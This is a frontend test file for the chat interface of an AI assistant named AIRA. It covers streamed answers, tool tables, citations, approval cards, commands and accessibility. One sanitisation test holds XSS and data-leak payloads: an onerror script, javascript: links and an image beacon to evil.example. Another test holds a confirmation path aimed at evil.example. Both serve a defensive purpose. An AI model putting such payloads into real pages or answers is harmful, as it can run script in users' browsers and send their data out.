import { act, fireEvent, screen, waitFor, within } from "@testing-library/react";
import axe from "axe-core";
import { afterEach, beforeAll, describe, expect, it } from "vitest";
import { setDock } from "@/aira/dock";
import { endTalks } from "@/aira/talks";
import { setPreferences } from "@/preferences/store";
import { Aira, done, numbered, type Said, saying, storedTurn, turnEvent } from "./support/aira";
import { goLive, open, until } from "./support/app";
import type { World } from "./support/world";

// Fetched once before anything is timed: what a busy machine takes to load is not what is tested.
beforeAll(async () => {
  await Promise.all([
    import("@/modules/aira"),
    import("@/aira/Dock"),
    import("@/modules/approvals"),
  ]);
}, 60_000);

afterEach(() => {
  endTalks();
  setDock({ open: false, conversation: null, question: null });
});

function openAira(path: string, prepare: (aira: Aira) => void = () => {}) {
  const app = open(path);
  const aira = new Aira().serve();
  prepare(aira);
  return { ...app, aira };
}

const field = () => screen.findByRole("textbox", { name: "Message to AIRA" });

const FIGURES: Said[] = [
  {
    event: "tool_call",
    data: {
      call_id: "1",
      tool: "metrics",
      title: "Figures",
      arguments: { metric: "net_sales", days: 30 },
    },
  },
  {
    event: "tool_result",
    data: {
      call_id: "1",
      tool: "metrics",
      ok: true,
      result: {
        data: [
          { label: "Revenue", value: { amount: "48210.12", currency: "EUR" }, on: "2026-11-21" },
          ...Array.from({ length: 9 }, (_, n) => ({ label: `Line ${n}`, value: null, on: null })),
        ],
      },
      text: null,
      view: {
        type: "table",
        rows: "data",
        columns: [
          { key: "label", label: "Figure", kind: "text", page: null, id: null },
          { key: "value", label: "Value", kind: "money", page: null, id: null },
          { key: "on", label: "Until", kind: "date", page: null, id: null },
        ],
      },
      source: "sandbox",
      as_of: "2026-11-22T09:39:00Z",
      next_cursor: null,
      more: null,
      problem: null,
    },
  },
  saying("Revenue was **€48,210.12** [1].\n\n| a | b |\n| - | - |\n| in the table | 2 |\n"),
  {
    event: "citation",
    data: {
      n: 1,
      call_id: "1",
      label: "Revenue of 30 days",
      query: "GET /v1/metrics?from=2026-10-23&to=2026-11-21",
      source: "sandbox",
      as_of: "2026-11-22T09:39:00Z",
      link: "/?from=2026-10-23",
    },
  },
  {
    event: "usage",
    data: {
      model: "test-model",
      requests: 2,
      input_tokens: 1200,
      output_tokens: 80,
      estimated_tokens: null,
      seconds: 2.4,
      first_token_seconds: 0.4,
      cost: { amount: "0.02", currency: "USD" },
    },
  },
  done(),
];

const ORDERS: Said[] = [
  {
    event: "tool_call",
    data: { call_id: "1", tool: "orders", title: "Orders", arguments: {} },
  },
  {
    event: "tool_result",
    data: {
      call_id: "1",
      tool: "orders",
      ok: true,
      result: {
        data: [
          { name: "#1001", id: "9/1" },
          { name: "#1002", id: null },
        ],
      },
      text: null,
      view: {
        type: "table",
        rows: "data",
        columns: [{ key: "name", label: "Order", kind: "text", page: "orders", id: "id" }],
      },
      source: "sandbox",
      as_of: "2026-11-22T09:39:00Z",
      next_cursor: "abc",
      more: "/orders cursor=abc",
      problem: null,
    },
  },
  done(),
];

/** A proposal as AIRA tells it, bound to what the World holds of the same decision. */
function approvalOf(world: World, id = "dec_bridle", change: object = {}): Said {
  const decision = world.decisions.get(id);
  if (!decision) throw new Error("no such decision");
  return {
    event: "approval",
    data: {
      call_id: "2",
      decision_id: id,
      action: "approve",
      argument_hash: decision.argument_hash,
      kind: decision.kind,
      title: decision.subject.title,
      changes: decision.changes,
      rationale: "Stock lasts eleven days.",
      ruling: "ask",
      hits: [
        {
          rule: "price_step",
          ruling: "ask",
          message: "A step above the limit asks.",
          limit: "10",
          actual: "12.7",
          unit: "percent",
        },
      ],
      money_at_stake: decision.money_at_stake,
      expires_at: decision.expires_at,
      status: "proposed",
      link: `/approvals/${id}`,
      confirm: {
        method: "POST",
        path: `/v1/decisions/${id}/approve`,
        body: { argument_hash: decision.argument_hash },
      },
      command: `/approve ${id}`,
      undo: decision.inverse.explanation,
      allowed: true,
      ...change,
    },
  };
}

const VIOLATIONS = {
  runOnly: ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa", "best-practice"],
  // jsdom paints nothing: contrast is checked on the tokens and in a real browser.
  rules: { "color-contrast": { enabled: false } },
};

describe("an answer", () => {
  it("begins a conversation, streams, and gives the page its address", async () => {
    const { user, aira, history } = openAira("/aira");
    const answer = aira.next();
    await user.type(await field(), "Which pad sold best?{Enter}");
    answer.say(...numbered([turnEvent("trn_1", "Which pad sold best?"), saying("The half")]));
    expect(await screen.findByText("The half")).toBeInTheDocument();
    aira.keep("cnv_new", "Which pad sold best?", []);
    await waitFor(() => expect(history.location.pathname).toBe("/aira/cnv_new"));
    answer.say(...numbered([saying(" pad."), done()], 3));
    expect(await screen.findByText("The half pad.")).toBeInTheDocument();
    expect(await field()).toHaveValue("");
    expect(await field()).toHaveFocus();
  });

  it("shows tools, rows, sources and what it took", async () => {
    const { user } = openAira("/aira/cnv_1", (aira) => {
      aira.keep("cnv_1", "Revenue", [storedTurn("trn_1", "Revenue?", FIGURES, "cnv_1")]);
    });
    const tool = within(await screen.findByRole("region", { name: "Figures, answered" }));
    expect(tool.getByRole("columnheader", { name: "Value" })).toBeInTheDocument();
    expect(tool.getByText("€48,210.12")).toBeInTheDocument();
    expect(tool.getByText(/sandbox/)).toBeInTheDocument();
    expect(tool.queryByText("Line 8")).toBeNull();
    await user.click(tool.getByRole("button", { name: "Show all 10 rows" }));
    expect(tool.getByText("Line 8")).toBeInTheDocument();

    const sources = within(screen.getByRole("region", { name: "Sources" }));
    expect(sources.getByRole("link", { name: "Revenue of 30 days" })).toHaveAttribute(
      "href",
      "/?from=2026-10-23",
    );
    expect(sources.getByRole("link", { name: /GET \/v1\/metrics/ })).toHaveAttribute(
      "href",
      "/v1/metrics?from=2026-10-23&to=2026-11-21",
    );
    await user.click(screen.getByRole("link", { name: "[1]" }));
    expect(sources.getByRole("listitem")).toHaveFocus();
    expect(
      screen.getByText(/test-model · 1,200 tokens in, 80 out · 2.4 s · \$0.02/),
    ).toBeInTheDocument();
    // A model's own words keep their tables; a command's rows are shown once.
    expect(screen.getByText("in the table")).toBeInTheDocument();
  });

  it("leads from a row to its page, and to the next rows with one press", async () => {
    const { user, aira } = openAira("/aira/cnv_1", (served) => {
      served.keep("cnv_1", "Orders", [storedTurn("trn_1", "/orders", ORDERS, "cnv_1")]);
    });
    const tool = within(await screen.findByRole("region", { name: "Orders, answered" }));
    expect(tool.getByRole("link", { name: "#1001" })).toHaveAttribute("href", "/orders/9%2F1");
    // Without an id there is nowhere to go.
    expect(tool.queryByRole("link", { name: "#1002" })).toBeNull();
    const answer = aira.next();
    const more = tool.getByRole("button", { name: "More of Orders" });
    more.focus();
    await user.keyboard("{Enter}");
    await waitFor(() => expect(aira.messages.at(-1)?.text).toBe("/orders cursor=abc"));
    expect(more).toBeDisabled();
    answer.say(...numbered([turnEvent("trn_2", "/orders cursor=abc"), saying("Rest."), done()]));
    expect(await screen.findByText("Rest.")).toBeInTheDocument();
    await waitFor(() => expect(more).toBeEnabled());
  });

  it("of a command lists its rows once", async () => {
    openAira("/aira/cnv_1", (aira) => {
      aira.keep("cnv_1", "Revenue", [storedTurn("trn_1", "/metrics revenue", FIGURES, "cnv_1")]);
    });
    expect(await screen.findByText("Revenue was", { exact: false })).toBeInTheDocument();
    expect(screen.queryByText("in the table")).toBeNull();
  });

  it("cannot become markup, nor call an address by being read", async () => {
    const hostile = [
      "<img src=x onerror=alert(1)> <b>bold</b>",
      "![pixel](https://evil.example/leak?q=1)",
      "[run](javascript:alert(1)) [data](data:text/html,x) [out](https://evil.example/a)",
      "[ours](/approvals) [not ours](//evil.example/x)",
    ].join("\n\n");
    const { container } = openAira("/aira/cnv_1", (aira) => {
      aira.keep("cnv_1", "x", [storedTurn("trn_1", "x", [saying(hostile), done()], "cnv_1")]);
    });
    await screen.findByText(/onerror/);
    const answer = container.querySelector("article") as HTMLElement;
    expect(answer.querySelector("img, b, script, iframe")).toBeNull();
    const links = [...answer.querySelectorAll("a")].map((link) => [
      link.getAttribute("href"),
      link.rel,
    ]);
    expect(links).toEqual([
      ["https://evil.example/a", "noopener noreferrer nofollow"],
      ["/approvals", ""],
    ]);
    expect(within(answer).getByText("(evil.example)")).toBeInTheDocument();
  });

  it("says what failed and what to do, and gives the text back", async () => {
    const { user } = openAira("/aira/cnv_1", (aira) => {
      const failed: Said = {
        event: "error",
        data: {
          slug: "rate-limited",
          status: 429,
          title: "Busy",
          detail: "The model is busy.",
          remedy: "Wait a little.",
          retry_after: 20,
        },
      };
      aira.keep("cnv_1", "x", [storedTurn("trn_1", "Why?", [failed, done("failed")], "cnv_1")]);
    });
    expect(await screen.findByText("The model is busy.")).toBeInTheDocument();
    expect(screen.getByText("Wait a little.")).toBeInTheDocument();
    expect(screen.getByText("Possible again in 20 s")).toBeInTheDocument();
    await user.click(screen.getByRole("button", { name: "Put it in the field again" }));
    expect(await field()).toHaveValue("Why?");
  });

  it("is followed after a reload in the middle, and stopped with Escape", async () => {
    const { user, aira } = openAira("/aira/cnv_1", (kept) => {
      kept.keep("cnv_1", "x", [storedTurn("trn_1", "Count", [saying("One, ")], "cnv_1")], "trn_1");
    });
    const answer = aira.next();
    await until(() => aira.follows.length === 1);
    expect(aira.follows[0]).toEqual({ turn: "trn_1", after: "2" });
    answer.say(...numbered([saying("two, ")], 3));
    expect(await screen.findByText("One, two,")).toBeInTheDocument();
    await user.click(await field());
    await user.keyboard("{Escape}");
    await until(() => aira.cancelled.length === 1);
    aira.keep("cnv_1", "x", [
      storedTurn("trn_1", "Count", [saying("One, "), saying("two, "), done("cancelled")], "cnv_1"),
    ]);
    answer.say(...numbered([done("cancelled")], 4));
    await until(() => screen.queryByRole("button", { name: "Send" }) !== null);
    expect(screen.getByText("One, two,")).toBeInTheDocument();
  });

  it("is told to a screen reader in whole parts, with its end", async () => {
    const { user, aira } = openAira("/aira");
    const answer = aira.next();
    await user.type(await field(), "Hi{Enter}");
    answer.say(
      ...numbered([turnEvent("trn_1", "Hi"), saying("**Good** "), saying("day."), done()]),
    );
    const announcer = () => document.querySelector("[data-announcer]")?.textContent;
    await waitFor(() => expect(announcer()).toBe("Good day. End of the answer."));
    const log = (
      await screen.findByText("day.", { exact: false, selector: "p:not([role])" })
    ).closest("[aria-live]");
    expect(log).toHaveAttribute("aria-live", "off");
  });
});

describe("a proposal in the conversation", () => {
  async function proposal(change: object = {}) {
    const app = openAira("/aira/cnv_1");
    app.aira.keep("cnv_1", "Bridle", [
      storedTurn(
        "trn_1",
        "Raise it",
        [approvalOf(app.world, "dec_bridle", change), done()],
        "cnv_1",
      ),
    ]);
    const card = within(await screen.findByRole("region", { name: /Leather bridle/ }));
    return { ...app, card };
  }

  it("shows the change, why, the rules, the stake, the expiry and the undo plan", async () => {
    const { card } = await proposal();
    expect(card.getByText("€79.00").tagName).toBe("DEL");
    expect(card.getByText("€89.00")).toBeInTheDocument();
    expect(card.getByText("Stock lasts eleven days.")).toBeInTheDocument();
    expect(card.getByText("A step above the limit asks.")).toBeInTheDocument();
    expect(card.getByText("limit 10%, actual 12.7%")).toBeInTheDocument();
    expect(await card.findByText(/Restores the price/)).toBeInTheDocument();
    expect(card.getByText("Expires")).toBeInTheDocument();
    expect(card.getByRole("link", { name: "Open in Approvals" })).toHaveAttribute(
      "href",
      "/approvals/dec_bridle",
    );
  });

  it("is approved with exactly what was shown, then follows its execution live", async () => {
    const { user, world, card } = await proposal();
    const socket = await goLive();
    await user.click(card.getByRole("button", { name: "Approve" }));
    await card.findByText("The worker picks it up next.");
    const post = world.requests.find(
      (request) => request.path === "/v1/decisions/dec_bridle/approve",
    );
    expect(post?.body).toEqual({ argument_hash: "hash-dec_bridle" });
    const [change] = world.decisions.get("dec_bridle")?.changes ?? [];
    if (!change) throw new Error("no change");
    world.update("dec_bridle", {
      status: "executed",
      changes: [{ ...change, written: change.proposed }],
    });
    socket.say({
      kind: "event",
      event: world.event("decision.executed", { decision_id: "dec_bridle" }),
    });
    expect(await card.findByText("Written to the store and read back.")).toBeInTheDocument();
    expect(card.getByText("Written")).toBeInTheDocument();
    expect(card.queryByRole("button", { name: "Approve" })).toBeNull();
  });

  it("offers no button to who may not decide, nor for arguments that changed since", async () => {
    const denied = await proposal({ allowed: false });
    expect(await denied.card.findByText("Your role does not allow this.")).toBeInTheDocument();
    expect(denied.card.queryByRole("button", { name: "Approve" })).toBeNull();
  });

  it("refuses to send arguments that are no longer the decision's", async () => {
    const { card } = await proposal({ argument_hash: "older" });
    expect(await card.findByText(/The arguments changed since/)).toBeInTheDocument();
    expect(card.queryByRole("button", { name: "Approve" })).toBeNull();
  });

  it("never sends a confirmation outside this installation's API", async () => {
    const { user, world, card } = await proposal({
      decision_id: null,
      confirm: { method: "POST", path: "//evil.example/v1/x", body: null },
    });
    await user.click(card.getByRole("button", { name: "Approve" }));
    expect(await card.findByRole("alert")).toHaveTextContent("Not an address of the API");
    expect(world.requests.some((request) => request.method === "POST")).toBe(false);
  });
});

describe("the field", () => {
  it("breaks lines with Shift-Enter and keeps what was written per conversation", async () => {
    const { user, history } = openAira("/aira/cnv_1", (aira) => {
      aira.keep("cnv_1", "One", []);
      aira.keep("cnv_2", "Two", []);
    });
    await user.type(await field(), "first{Shift>}{Enter}{/Shift}second");
    expect(await field()).toHaveValue("first\nsecond");
    history.push("/aira/cnv_2");
    await waitFor(async () => expect(await field()).toHaveValue(""));
    history.push("/aira/cnv_1");
    await waitFor(async () => expect(await field()).toHaveValue("first\nsecond"));
  });

  it("keeps a paste over the limit and says by how much", async () => {
    const { user, aira } = openAira("/aira");
    const box = await field();
    await until(() => screen.queryByText(/Ask in your own words/) !== null);
    await user.click(box);
    await user.paste("🐎".repeat(230));
    expect(box).toHaveValue("🐎".repeat(230));
    expect(await screen.findByRole("alert")).toHaveTextContent(
      "30 characters over the limit of 200",
    );
    expect(screen.getByText("230 / 200")).toBeInTheDocument();
    expect(screen.getByRole("button", { name: "Send" })).toBeDisabled();
    await user.keyboard("{Enter}");
    expect(aira.messages).toEqual([]);
  });

  it("completes commands with the keyboard alone", async () => {
    const { user, aira } = openAira("/aira", (served) => {
      served.completions = [
        { text: "/metrics revenue", label: "/metrics revenue", description: "Figures" },
        { text: "/messages", label: "/messages", description: "Messages" },
      ];
    });
    const box = await field();
    await user.type(box, "/me");
    const list = within(await screen.findByRole("listbox", { name: "Commands" }));
    expect(list.getAllByRole("option")).toHaveLength(2);
    await user.keyboard("{ArrowDown}{ArrowDown}");
    expect(list.getAllByRole("option")[1]).toHaveAttribute("aria-selected", "true");
    expect(box).toHaveAttribute("aria-activedescendant", list.getAllByRole("option")[1]?.id);
    await user.keyboard("{Enter}");
    expect(box).toHaveValue("/messages");
    await user.clear(box);
    await user.type(box, "/me");
    await screen.findByRole("listbox");
    await user.keyboard("{Tab}");
    expect(box).toHaveValue("/metrics revenue");
    await user.keyboard("{Escape}");
    await waitFor(() => expect(screen.queryByRole("listbox")).toBeNull());
    const answer = aira.next();
    await user.keyboard("{Enter}");
    await until(() => aira.messages.length === 1);
    expect(aira.messages[0]?.text).toBe("/metrics revenue");
    answer.say(...numbered([turnEvent("trn_1", "/metrics revenue"), done()]));
  });

  it("says which variable enables conversation and offers the commands", async () => {
    const { user } = openAira("/aira", (aira) => {
      aira.status = {
        ...aira.status,
        can_converse: false,
        missing: ["OPENAI_API_KEY"],
        remedy: "Set it in .env.",
      };
    });
    expect(await screen.findByText("OPENAI_API_KEY")).toBeInTheDocument();
    expect(screen.getByText("Set it in .env.")).toBeInTheDocument();
    const commands = within(await screen.findByRole("list", { name: "Commands" }));
    expect(commands.queryByText("/price")).toBeNull();
    await user.click(commands.getByRole("button", { name: /\/metrics/ }));
    expect(await field()).toHaveValue("/metrics ");
  });

  it.each([
    [850, false, /nearly spent/],
    [1000, true, /is spent/],
  ])("shows a budget of which %d of 1000 tokens are used", async (used, paused, says) => {
    openAira("/aira", (aira) => {
      aira.status = {
        ...aira.status,
        budget: { ...aira.status.budget, tokens_used: used, paused },
      };
    });
    expect(await screen.findByText(says)).toBeInTheDocument();
    expect(screen.getByText(/of 1,000 tokens/)).toBeInTheDocument();
  });
});

describe("a spent budget", () => {
  it("is raised for the one who asks, by who may set limits", async () => {
    const { user, aira } = openAira("/aira", (served) => {
      const budget = { ...served.status.budget, tokens_used: 1_000, paused: true };
      served.status = { ...served.status, budget };
    });
    await user.click(await screen.findByRole("button", { name: "Grant another day’s budget" }));
    await waitFor(() => expect(screen.queryByText(/is spent/)).toBeNull());
    expect(aira.granted).toEqual(["ada"]);
  });
});

describe("another tab", () => {
  it("that is being answered is followed, and the message waits in the field", async () => {
    const { user, aira } = openAira("/aira/cnv_1", (kept) => kept.keep("cnv_1", "x", []));
    aira.answers.push({
      status: 409,
      detail: "Busy.",
      remedy: "Follow it.",
      errors: [{ turn_id: "trn_9", reason: "answering" }],
    });
    const other = aira.next();
    await user.type(await field(), "Mine{Enter}");
    await user.click(await screen.findByRole("button", { name: "Follow that answer" }));
    other.say(...numbered([turnEvent("trn_9", "Theirs", "cnv_1"), saying("Said there.")]));
    expect(await screen.findByText("Said there.")).toBeInTheDocument();
    expect(await field()).toHaveValue("Mine");
  });

  it("that went on is shown before the message is sent again", async () => {
    const { user, aira } = openAira("/aira/cnv_1", (kept) => kept.keep("cnv_1", "x", []));
    await until(() => aira.requests.length > 0);
    aira.answers.push({
      status: 409,
      detail: "Moved on.",
      remedy: "Read.",
      errors: [{ turn_id: "trn_9", reason: "moved_on" }],
    });
    await user.type(await field(), "Mine");
    aira.keep("cnv_1", "x", [
      storedTurn("trn_9", "Theirs", [saying("Said there."), done()], "cnv_1"),
    ]);
    await user.keyboard("{Enter}");
    expect(await screen.findByText("Said there.")).toBeInTheDocument();
    expect(screen.getByRole("alert")).toHaveTextContent("went on in another tab");
    const answer = aira.next();
    await user.click(await field());
    await user.keyboard("{Enter}");
    await until(() => aira.messages.length === 2);
    expect(aira.messages[1]).toMatchObject({ text: "Mine", after_turn: "trn_9" });
    answer.say(...numbered([turnEvent("trn_10", "Mine", "cnv_1"), done()]));
  });
});

describe("conversations", () => {
  const two = (aira: Aira) => {
    aira.keep("cnv_1", "Bridle prices", [storedTurn("trn_1", "x", [done()], "cnv_1")]);
    aira.keep("cnv_2", "Late orders", []);
  };

  it("are searched by the server, and the search is in the address", async () => {
    const { user, history } = openAira("/aira", two);
    await screen.findByRole("link", { name: /Bridle prices/ });
    await user.type(screen.getByRole("searchbox", { name: "Search conversations" }), "late");
    await waitFor(() => expect(screen.queryByRole("link", { name: /Bridle/ })).toBeNull());
    expect(history.location.search).toBe("?q=late");
    await user.click(screen.getByRole("link", { name: /Late orders/ }));
    await waitFor(() => expect(history.location.pathname).toBe("/aira/cnv_2"));
  });

  it("are renamed, exported, and deleted after a question", async () => {
    const { user, aira, history } = openAira("/aira/cnv_1", two);
    await user.click(await screen.findByRole("button", { name: "Rename" }));
    const title = await screen.findByRole("textbox", { name: "Title" });
    await user.clear(title);
    await user.type(title, "Bridles{Enter}");
    expect(await screen.findByRole("heading", { level: 2, name: "Bridles" })).toBeInTheDocument();

    await user.click(screen.getByRole("button", { name: "Export" }));
    const file = await screen.findByRole("link", { name: "Markdown" });
    expect(file).toHaveAttribute("href", "/v1/conversations/cnv_1/export?format=markdown");
    await user.keyboard("{Escape}");

    await user.click(screen.getByRole("button", { name: "Delete conversation" }));
    const dialog = within(await screen.findByRole("dialog"));
    expect(aira.requests).not.toContain("DELETE cnv_1");
    await user.click(dialog.getByRole("button", { name: "Delete" }));
    await waitFor(() => expect(history.location.pathname).toBe("/aira"));
    expect(aira.requests).toContain("DELETE cnv_1");
    await waitFor(() => expect(screen.queryByRole("link", { name: /Bridles/ })).toBeNull());
  });

  it("say when one does not exist, and when AIRA does not answer", async () => {
    openAira("/aira/cnv_gone");
    expect(await screen.findByText("No such conversation.")).toBeInTheDocument();
    expect(screen.getByText("No conversation yet")).toBeInTheDocument();
  });
});

describe("the dock", () => {
  it("opens with a key, answers, closes with Escape and gives the focus back", async () => {
    const { user, aira } = openAira("/approvals");
    const button = await screen.findByRole("button", { name: "Ask AIRA" });
    button.focus();
    await user.keyboard("i");
    const panel = within(await screen.findByRole("complementary", { name: "AIRA" }));
    const box = await panel.findByRole("textbox", { name: "Message to AIRA" });
    await waitFor(() => expect(box).toHaveFocus());
    const answer = aira.next();
    aira.keep("cnv_new", "Hi", []);
    await user.type(box, "Hi{Enter}");
    answer.say(...numbered([turnEvent("trn_1", "Hi"), saying("Hello."), done()]));
    expect(await panel.findByText("Hello.")).toBeInTheDocument();
    await user.keyboard("{Escape}");
    await waitFor(() => expect(screen.queryByRole("complementary", { name: "AIRA" })).toBeNull());
    expect(button).toHaveFocus();
    expect(localStorage.getItem("royal.aira.dock")).toBe("cnv_new");
    await user.click(button);
    expect(await screen.findByText("Hello.")).toBeInTheDocument();
  });

  it("is asked from the palette, after everything that was found", async () => {
    const { user, aira } = openAira("/");
    await screen.findByText("The court");
    const answer = aira.next();
    await user.keyboard("{Control>}k{/Control}");
    await user.type(await screen.findByRole("combobox"), "why is revenue down");
    await user.click(await screen.findByText("Ask AIRA: why is revenue down"));
    await until(() => aira.messages.length === 1);
    expect(aira.messages[0]?.text).toBe("why is revenue down");
    answer.say(
      ...numbered([turnEvent("trn_1", "why is revenue down"), saying("It is not."), done()]),
    );
    expect(await screen.findByText("It is not.")).toBeInTheDocument();
  });

  it("takes a question into the conversation it remembers, and leaves a draft alone", async () => {
    const { aira } = openAira("/", (kept) => {
      kept.keep("cnv_1", "Before", [
        storedTurn("trn_1", "x", [saying("Earlier."), done()], "cnv_1"),
      ]);
    });
    await screen.findByText("The court");
    localStorage.setItem("royal.aira.draft.cnv_1", "not sent yet");
    const answer = aira.next();
    act(() => setDock({ open: true, conversation: "cnv_1", question: "and now" }));
    await until(() => aira.messages.length === 1);
    expect(aira.messages[0]).toMatchObject({
      text: "and now",
      conversation_id: "cnv_1",
      after_turn: "trn_1",
    });
    answer.say(...numbered([turnEvent("trn_2", "and now", "cnv_1"), saying("Later."), done()]));
    expect(await screen.findByText("Later.")).toBeInTheDocument();
    expect(await field()).toHaveValue("not sent yet");
    expect(localStorage.getItem("royal.aira.draft.cnv_1")).toBe("not sent yet");
  });

  it("gives way to the page", async () => {
    openAira("/aira");
    await field();
    expect(screen.queryByRole("button", { name: "Ask AIRA" })).toBeNull();
  });

  it("is a sheet over the whole screen on a phone", async () => {
    const { user } = openAira("/approvals");
    globalThis.matchMedia = ((query: string) => ({
      matches: query.includes("max-width"),
      media: query,
      addEventListener: () => {},
      removeEventListener: () => {},
    })) as unknown as typeof matchMedia;
    await user.click(await screen.findByRole("button", { name: "Ask AIRA" }));
    const sheet = within(await screen.findByRole("dialog", { name: "AIRA" }));
    await user.click(sheet.getByRole("button", { name: "Close" }));
    await waitFor(() => expect(screen.queryByRole("dialog")).toBeNull());
  });
});

describe.each(["dark", "light"] as const)("in the %s theme", (theme) => {
  it.each(["page", "dock"])("the %s passes axe", async (where) => {
    setPreferences({ theme });
    const { user, container, world, aira } = openAira(
      where === "page" ? "/aira/cnv_1" : "/approvals",
    );
    aira.keep("cnv_1", "Everything", [
      storedTurn("trn_1", "/metrics revenue", FIGURES, "cnv_1"),
      storedTurn(
        "trn_2",
        "Raise it",
        [saying("# Head\n\n- one\n- two\n\n> said\n\n```\ncode\n```"), approvalOf(world), done()],
        "cnv_1",
      ),
    ]);
    aira.completions = [{ text: "/metrics", label: "/metrics", description: "Figures" }];
    if (where === "dock") {
      setDock({ conversation: "cnv_1" });
      await user.click(await screen.findByRole("button", { name: "Ask AIRA" }));
    }
    await screen.findByRole("region", { name: /Leather bridle/ });
    await user.type(await field(), "/m");
    await screen.findByRole("listbox");
    fireEvent.scroll(globalThis as unknown as Window);
    const found = await axe.run(container, VIOLATIONS);
    expect(found.violations.map((v) => `${v.id}: ${v.nodes.map((n) => n.html).join(" ")}`)).toEqual(
      [],
    );
  });
});
